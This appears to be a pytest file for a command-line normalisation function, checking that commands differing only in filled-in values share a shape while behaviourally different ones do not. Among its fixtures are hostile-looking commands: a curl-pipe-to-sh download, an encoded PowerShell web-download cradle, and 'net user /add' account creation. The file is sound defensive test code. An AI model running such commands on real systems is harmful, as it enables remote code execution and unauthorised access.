"""The shape of a command line: what was filled in is gone, what it does is not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.words.command_shape import shape, shape_number

ALIKE = [
    ("sh -c 'debian-sa1 1 1'", "sh -c 'debian-sa1 60 2'"),
    ("git clone https://a.b/c.git /home/bob/src", "git clone https://d.e/f.git /home/alice/src"),
    (r"x.exe C:\Users\olga\AppData\Local\Temp\is-14A47.tmp\s.tmp", r"x.exe C:\Users\ben\AppData\Local\Temp\is-XQ6V5.tmp\s.tmp"),
    ("bash /tmp/tmp.raiyOiHOBl/run", "bash /tmp/tmp.Qq3kXvZzPa/run"),
    ("ping -n 1 10.0.0.1", "ping -n 4 192.168.7.9"),
    ("sh -c 'ps | grep console queue:invoice'", "sh -c 'ps | grep console queue:views old'"),
    ("git clone one", "git clone two three"),
    ("run /w/e7f718fc-1966-402f-8cf2-ebe22be59bfe.sh", "run /w/d569080f-44f4-455e-adc2-e4fb11cdcc2c.sh"),
]
APART = [
    ("sh -c 'debian-sa1 1 1'", "sh -c 'curl http://192.0.2.7/x | sh'"),
    ("sh -c /usr/lib/php/sessionclean", "sh -c /tmp/x.sh"),
    ("net user bob /add", "net user"),
    (
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "powershell -file x.ps1",
    ),
    ("tool a b", "tool b a"),
    ("cmd.exe /c net user x /add", "cmd.exe /c net stop x"),
    ("sh -c 'ps | grep x'", "sh -c 'ps | sh'"),
]


@pytest.mark.parametrize(("one", "other"), ALIKE)
def test_what_was_filled_in_makes_no_other_shape(one: str, other: str):
    assert shape(one) == shape(other)
    assert shape_number(one) == shape_number(other)


@pytest.mark.parametrize(("one", "other"), APART)
def test_what_it_does_makes_another_shape(one: str, other: str):
    assert shape(one) != shape(other)
    assert shape_number(one) != shape_number(other)


def test_the_number_is_the_same_in_every_version():
    assert shape_number("sh -c 'debian-sa1 1 1'") == 6255412560492611919


@given(st.text(max_size=300))
def test_any_text_has_a_number_that_a_database_can_hold(text: str):
    assert 1 <= shape_number(text) < 2**63
